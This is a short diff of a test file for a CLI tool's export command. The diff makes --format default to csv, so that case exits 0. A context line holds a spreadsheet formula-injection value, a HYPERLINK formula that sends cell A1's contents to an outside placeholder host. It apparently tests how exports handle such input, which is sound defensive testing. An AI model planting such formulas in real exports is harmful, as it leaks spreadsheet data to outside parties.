@@ -144,8 +144,8 @@ describe('covenant export, writing and refusing', () => {
     expect(json.find((r) => r.pledge === 'care-leaver-marker')!.department_name).toBe('=HYPERLINK("http://example.com/?"&A1,"Click")');
   });
 
-  test('--format is required and checked; a missing year exits 1', async () => {
-    expect((await run(['export', '2021'], { cwd: dir })).code).toBe(2);
+  test('--format is checked (csv when not given); a missing year exits 1', async () => {
+    expect((await run(['export', '2021'], { cwd: dir })).code).toBe(0);
     expect((await run(['export', '2021', '--format', 'xlsx'], { cwd: dir })).code).toBe(2);
     const missing = await run(['export', '2030', '--format', 'csv'], { cwd: dir });
     expect(missing.code).toBe(1);
